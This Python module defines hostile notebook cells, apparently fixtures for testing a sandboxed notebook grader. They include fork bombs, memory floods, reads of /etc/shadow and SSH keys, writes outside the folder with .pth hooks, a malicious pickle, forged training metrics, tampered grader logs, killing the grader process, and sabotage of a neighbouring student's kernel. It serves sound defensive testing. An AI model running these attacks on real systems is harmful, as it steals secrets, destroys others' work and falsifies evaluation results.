"""The attack code of the hostile hand-ins (cell sources, student style: Spanish names and comments).

make_hostile.py puts each list of cells after the honest prefix. The constants are shared with the
test, which looks for what the attacks leave behind.
"""

from __future__ import annotations

PWNED = "pwned-adversarial"  # every file an attack tries to create outside its folder starts so
PORTS = range(47610, 47620)  # the network attack tries these loopback ports (the test listens on one)
# argv of the processes the fork bombs leave behind (the test looks for them once the batch is over)
SLEEP_MARKERS = ("987.654321", "987.654322", "987.654323", "987.654324", "987.654325")
CHDIR_DAEMON = "987.654325"  # the daemon that also leaves the workspace (chdir('/'))
SIGNATURE_MTIME = 1234567890  # the mtime write_outside stamps on the grader's files if it can
VICTIM_MARKER = "VICTIMA-ADVERSARIAL"  # fixed text in the honest notebooks; the test adds a random one
# Folders shared with other people's work: attacks read there, never delete/overwrite/kill there.
SHARED_ROOTS = ("/", "/tmp", "/var/tmp", "/dev/shm", "/root", "/home", "/work", "/work/main", "/usr",
                "/var", "/etc", "/opt", "/srv", "/run", "/proc", "/sys")

# Shared by the attacks that must not touch other people's folders.
GUARD = f"""\
import os
COMPARTIDAS = {SHARED_ROOTS!r}
def compartida(ruta):
    return os.path.realpath(ruta) in COMPARTIDAS
"""

ATTACKS: dict[str, list[str]] = {
    "timeout_infinite_loop": ["""\
# Búsqueda del mejor número de neuronas (no termina nunca)
while True:
    pass""", "print('después del bucle')"],
    "memory_bytearray_30g": ["buffer = bytearray(30 * 2**30)\nprint(len(buffer))"],
    "memory_growing_list": ["""\
datos = []
while True:
    datos.append(bytearray(64 * 2**20))"""],
    "fork_bomb": ["""\
import os
for marca in ('987.654324', '987.654325'):  # demonios con doble fork: huérfanos, fuera del árbol
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            if marca == '987.654325':
                os.chdir('/')  # como cualquier demonio: deja también la carpeta de trabajo
            os.execv('/bin/sleep', ['sleep', marca])
        os._exit(0)
print('demonios lanzados')""", """\
import os
hijos = []
for i in range(3000):
    pid = os.fork()
    if pid == 0:
        if i % 100 == 0:
            os.setsid()  # escapa del grupo de procesos del kernel
        os.execv('/bin/sleep', ['sleep', '987.654321'])
    hijos.append(pid)
print(len(hijos), 'procesos')"""],
    "subprocess_spawn": ["""\
import os, subprocess
procesos = []
for i in range(3000):
    procesos.append(subprocess.Popen(['sleep', '987.654322'], start_new_session=(i % 100 == 0)))
os.system('nohup sleep 987.654323 > /dev/null 2>&1 &')
print(len(procesos), 'procesos')"""],
    "output_flood_1gb": ["""\
linea = 'x' * (2**20 - 1)
for _ in range(1024):
    print(linea)""", """\
import os
bloque = b'y' * 2**20
for _ in range(128):
    os.write(1, bloque)
    os.write(2, bloque)"""],
    "read_secrets": ["""\
import glob, os, site, sys
objetivos = glob.glob('/root/.grader_canary*') + glob.glob('/root/*') + glob.glob('/root/.ssh/*')
objetivos += glob.glob(os.path.expanduser('~/.ssh/*')) + ['/etc/shadow', '/proc/1/environ']
# el virtualenv delata la copia del corrector: su carpeta padre suele ser el repositorio
for base in site.getsitepackages() + sys.path + [os.path.dirname(sys.prefix), '/work/main', '/work']:
    objetivos += glob.glob(os.path.join(base, 'grader', 'rubrics', '*.yaml'))
    objetivos += glob.glob(os.path.join(base, 'rubrics', '*.yaml'))
d = os.getcwd()
for _ in range(6):  # otras entregas, resultados y la caché del corrector, subiendo de carpeta
    for patron in ('*.ipynb', '*/*.ipynb', '*/*/*.ipynb', '.cache/**/*', '*/trace.json',
                   'results/*.json', 'extracted/**/*.ipynb', 'gradebook.sqlite'):
        objetivos += glob.glob(os.path.join(d, patron), recursive=True)
    d = os.path.dirname(d)
for base in ('/tmp', '/var/tmp', '/dev/shm', '/work'):
    for nivel in ('/*/', '/*/*/', '/*/*/*/'):
        objetivos += glob.glob(base + nivel + '*.ipynb') + glob.glob(base + nivel + '*.json')
        objetivos += glob.glob(base + nivel + '*.yaml')
botin = {}
for ruta in dict.fromkeys(objetivos):
    try:
        with open(ruta, 'rb') as f:
            botin[ruta] = f.read(4000).decode('utf-8', 'replace')
    except Exception:
        pass
for ruta, texto in botin.items():
    print('==', ruta)
    print(texto)
raise RuntimeError('LEÍDO: ' + repr(botin))"""],
    "write_outside": [GUARD + f"""\
import glob, site, sys
intentos = ['/tmp/{PWNED}', '/var/tmp/{PWNED}', '/dev/shm/{PWNED}', '../{PWNED}', '../../{PWNED}',
            '../../../{PWNED}', os.path.expanduser('~/{PWNED}'), '/root/{PWNED}', '/work/main/{PWNED}']
d = os.getcwd()
for _ in range(6):  # la carpeta de informes: results/, logs/, .cache/, work/ de algún padre
    for nombre in ('results', 'reports', 'logs', '.cache', 'work', 'extracted'):
        if os.path.isdir(os.path.join(d, nombre)):
            intentos.append(os.path.join(d, nombre, '{PWNED}'))
    intentos.append(os.path.join(d, '{PWNED}.html'))
    d = os.path.dirname(d)
for base in site.getsitepackages() + sys.path:  # código que Python ejecutaría al arrancar
    if os.path.isdir(base):
        intentos.append(os.path.join(base, '{PWNED}.pth'))
    for sub in ('grader', 'grader/rubrics', 'rubrics'):
        if os.path.isdir(os.path.join(base, sub)):
            intentos.append(os.path.join(base, sub, '{PWNED}.py'))
for ruta in ('/work/main/grader/pipeline.py', '/work/main/rubrics/trabajo2.yaml'):
    try:
        os.utime(ruta, ({SIGNATURE_MTIME}, {SIGNATURE_MTIME}))  # basta con permiso de escritura
        print('fecha cambiada:', ruta)
    except OSError as e:
        print('no', ruta, e)
escritos = []
for ruta in dict.fromkeys(intentos):
    try:
        with open(ruta, 'x') as f:
            f.write('# {PWNED}\\n')
        escritos.append(ruta)
    except OSError as e:
        print('no', ruta, type(e).__name__)
print('escritos:', escritos)"""],
    "network_loopback": [f"""\
import socket
conectado, ultimo = [], None
for puerto in {list(PORTS)!r}:
    try:
        s = socket.create_connection(('127.0.0.1', puerto), timeout=2)
        s.sendall(b'{PWNED}')
        s.close()
        conectado.append(puerto)
    except OSError as e:
        ultimo = e
print('conectado a', conectado)
if not conectado:
    raise ConnectionError(f'sin red: {{ultimo!r}}')"""],
    "probe_restore_fit": ["""\
import sys
import keras
# El corrector cambia Model.fit por una versión que no entrena: recupero la original.
original = keras.Model.fit
while hasattr(original, '__wrapped__'):
    original = original.__wrapped__
keras.Model.fit = original
for nombre in [m for m in sys.modules if 'probe' in m or m.startswith('grader')]:
    del sys.modules[nombre]
modelo_oculto = Sequential([Flatten(input_shape=(28, 28)), Dense(64, activation='relu'),
                            Dense(10, activation='softmax')])
modelo_oculto.compile(optimizer='adam', loss='sparse_categorical_crossentropy', metrics=['accuracy'])
h = modelo_oculto.fit(x_train[:2000], y_train[:2000], validation_data=(x_test, y_test), epochs=1,
                      verbose=0)
print('val_accuracy (con test):', h.history['val_accuracy'])"""],
    "probe_fake_events": ["""\
import glob, json, os, sys
sonda = sys.modules.get('grader_probe')
rutas = []
if sonda is not None and getattr(sonda, '_probe', None) is not None:
    rutas.append(sonda._probe.events.name)
for fd in os.listdir('/proc/self/fd'):
    try:
        destino = os.readlink('/proc/self/fd/' + fd)
    except OSError:
        continue
    if destino.endswith('.jsonl'):
        rutas.append(destino)
rutas += glob.glob(os.path.join(os.getcwd(), '**', '*.jsonl'), recursive=True)
rutas = list(dict.fromkeys(rutas))
print('eventos:', rutas)
def falsear(o, cambios):
    if isinstance(o, dict):
        return {k: cambios[k] if k in cambios else falsear(v, cambios) for k, v in o.items()}
    if isinstance(o, list):
        return [falsear(v, cambios) for v in o]
    return o
for ruta in rutas:
    with open(ruta, encoding='utf-8') as f:
        eventos = [json.loads(l) for l in f if l.strip()]
    ajuste = next(e for e in eventos if e.get('event') == 'fit')
    falsos = [
        falsear(ajuste, {'epochs': 10**9}),
        falsear(ajuste, {'digest': '../../../../../../etc/passwd'}),
        falsear(ajuste, {'digest': '/etc/passwd'}),
        falsear(ajuste, {'model_id': 'x' * 1000, 'validation_split': 'mucho'}),
        falsear(ajuste, {'history': {'val_accuracy': [0.99]}, 'val_accuracy': 0.99}),
    ]
    with open(ruta, 'a', encoding='utf-8') as f:
        for e in falsos:
            f.write(json.dumps(e) + '\\n')
        f.write('esto no es JSON\\n')
        f.write('{"event": "fit"}\\n')
        f.write('[' * 100000 + '\\n')
        f.write('{"event": "fit", "relleno": "' + 'z' * (8 * 2**20) + '"}\\n')
print('eventos falsos escritos')"""],
    "probe_overwrite_npy": ["""\
import glob, os, sys
sonda = sys.modules.get('grader_probe')
carpetas = [os.getcwd()]
if sonda is not None and getattr(sonda, '_probe', None) is not None:
    almacen = getattr(sonda._probe, 'arrays', None)  # el almacén de arrays de la sonda (grader_probe_arrays)
    carpetas.insert(0, getattr(almacen, 'arrays_dir', None) or sonda._probe.arrays_dir)
class Trampa:
    def __reduce__(self):
        return (open, ('/tmp/""" + PWNED + """-pickle', 'w'))
cambiados = []
for carpeta in carpetas:
    for ruta in glob.glob(os.path.join(carpeta, '**', '*.npy'), recursive=True):
        arr = np.load(ruta)
        if arr.ndim >= 2:
            np.save(ruta, np.zeros_like(arr))  # las imágenes: todo ceros
        else:  # las etiquetas: un pickle que abre un fichero al cargarse con allow_pickle=True
            np.save(ruta, np.array([Trampa()] * len(arr), dtype=object), allow_pickle=True)
        cambiados.append(ruta)
print('sobrescritos:', cambiados)"""],
    "probe_lambda_payload": [f"""\
from keras.layers import Lambda
def _carga(t):
    import sys
    if 'ipykernel' not in sys.modules:  # fuera del kernel: en el proceso del corrector
        import pathlib
        pathlib.Path('/tmp/{PWNED}-lambda').touch()
    return t
modelo_lambda = Sequential([
    Flatten(input_shape=(28, 28)),
    Dense(32, activation='relu'),
    Lambda(lambda t: (__import__('pathlib').Path('/tmp/{PWNED}-lambda').touch()
                      if 'ipykernel' not in __import__('sys').modules else None, t)[1]),
    Lambda(_carga),
    Dense(10, activation='softmax'),
])
modelo_lambda.compile(optimizer='adam', loss='sparse_categorical_crossentropy', metrics=['accuracy'])
h2 = modelo_lambda.fit(x_train[:2000], y_train[:2000], validation_split=0.2, epochs=1, verbose=0)"""],
    "forged_history": ["""\
import keras
modelo_final = Sequential([Flatten(input_shape=(28, 28)), Dense(32, activation='relu'),
                           Dense(10, activation='softmax')])
modelo_final.compile(optimizer='adam', loss='sparse_categorical_crossentropy', metrics=['accuracy'])
history_final = modelo_final.fit(x_train[:2000], y_train[:2000], validation_split=0.2, epochs=1,
                                 verbose=0)
# Mejor que lo que salga: lo que yo diga.
history_final = keras.callbacks.History()
history_final.history = {'loss': [0.05], 'accuracy': [0.99], 'val_loss': [0.05], 'val_accuracy': [0.99]}
history_final.epoch = [0]
modelo_final.history = history_final
print('Epoch 1/1 - loss: 0.0500 - accuracy: 0.9900 - val_loss: 0.0500 - val_accuracy: 0.9900')
print('Test accuracy: 0.99')"""],
    "delete_files": [GUARD + """\
import shutil
aqui = os.getcwd()
padre = os.path.dirname(os.path.realpath(aqui))
shutil.rmtree(aqui, ignore_errors=True)
if compartida(padre):
    print('carpeta compartida, no la borro:', padre)
else:
    shutil.rmtree(padre, ignore_errors=True)
print('sigue existiendo:', os.path.exists(aqui), os.path.exists(padre))"""],
    "kill_parent": ["""\
import os, signal
def orden(pid):
    try:
        with open(f'/proc/{pid}/cmdline', 'rb') as f:
            return f.read().replace(b'\\0', b' ').decode(errors='replace')
    except OSError:
        return ''
def padre_de(pid):
    with open(f'/proc/{pid}/stat') as f:
        return int(f.read().rsplit(')', 1)[1].split()[1])
objetivos, pid = [os.getppid()], os.getppid()
for _ in range(4):  # el proceso del corrector que lanzó este kernel
    try:
        pid = padre_de(pid)
    except (OSError, ValueError):  # fuera de nuestro espacio de PID: no hay más padres a la vista
        break
    if pid > 1 and 'grader.worker' in orden(pid):
        objetivos.append(pid)
for pid in objetivos:
    try:
        os.kill(pid, signal.SIGKILL)
        print('matado', pid, orden(pid))
    except OSError as e:
        print('no', pid, e)
os.killpg(os.getpgid(0), signal.SIGKILL)"""],
    "kernel_exit": ["import os\nos._exit(1)"],
    "kernel_segfault": ["import ctypes\nctypes.string_at(0)"],
}

# Runs BEFORE the prefix, so that it overlaps the whole life of 00_victim_honest's kernel. It finds
# the victim's kernel through /proc (same uid: cwd and open fds are visible), overwrites the arrays
# and appends events through its open events file, then kills it. Only a kernel whose folder holds
# VICTIM_MARKER, in a workspace beside this one, and never under a shared folder, is touched.
CROSS = GUARD + f"""\
import glob, json, signal, time
aqui = os.path.realpath(os.getcwd())
raiz_lote = os.path.dirname(os.path.dirname(aqui))  # TMPDIR/<workspace>/<work>
def orden(pid):
    try:
        with open(f'/proc/{{pid}}/cmdline', 'rb') as f:
            return f.read().replace(bytes(1), b' ').decode(errors='replace')
    except OSError:
        return ''
def vecinos():
    for pid in filter(str.isdigit, os.listdir('/proc')):
        if int(pid) == os.getpid() or 'ipykernel' not in orden(pid):
            continue
        try:
            cwd = os.path.realpath(os.readlink(f'/proc/{{pid}}/cwd'))
        except OSError:
            continue
        if os.path.dirname(os.path.dirname(cwd)) != raiz_lote or compartida(raiz_lote):
            continue
        yield int(pid), cwd
vistos, botin, tocados, matados = set(), {{}}, [], []
fin = time.time() + 25  # under the test's 30 s cell limit
while time.time() < fin:
    for pid, cwd in vecinos():
        vistos.add(pid)
        textos = {{}}
        for ruta in glob.glob(os.path.join(cwd, '*.ipynb')) + glob.glob(os.path.join(cwd, '*.py')):
            try:
                with open(ruta, encoding='utf-8', errors='replace') as f:
                    textos[ruta] = f.read()
            except OSError:
                pass
        botin.update(textos)
        if not any({VICTIM_MARKER!r} in t for t in textos.values()):
            continue
        for fd in os.listdir(f'/proc/{{pid}}/fd'):
            try:
                destino = os.readlink(f'/proc/{{pid}}/fd/{{fd}}')
            except OSError:
                continue
            if not destino.endswith('events.jsonl'):
                continue
            with open(f'/proc/{{pid}}/fd/{{fd}}', encoding='utf-8', errors='replace') as f:
                hay_fit = '"fit"' in f.read()
            if not hay_fit:
                continue
            for npy in glob.glob(os.path.join(os.path.dirname(destino), 'arrays', '*.npy')):
                try:
                    with open(npy, 'r+b') as f:
                        f.seek(128)
                        f.write(bytes(4096))
                    tocados.append(npy)
                except OSError:
                    pass
            try:
                with open(destino, 'a') as f:
                    f.write(json.dumps({{'event': 'fit', 'model_id': 1, 'epochs': 10**9}}) + chr(10))
                tocados.append(destino)
                os.kill(pid, signal.SIGKILL)
                matados.append(pid)
            except OSError as e:
                print('no', pid, e)
    time.sleep(0.25)
print('kernels vistos:', sorted(vistos))
print('tocados:', tocados)
print('matados:', matados)
print('leídos:', json.dumps(botin)[:200000])"""
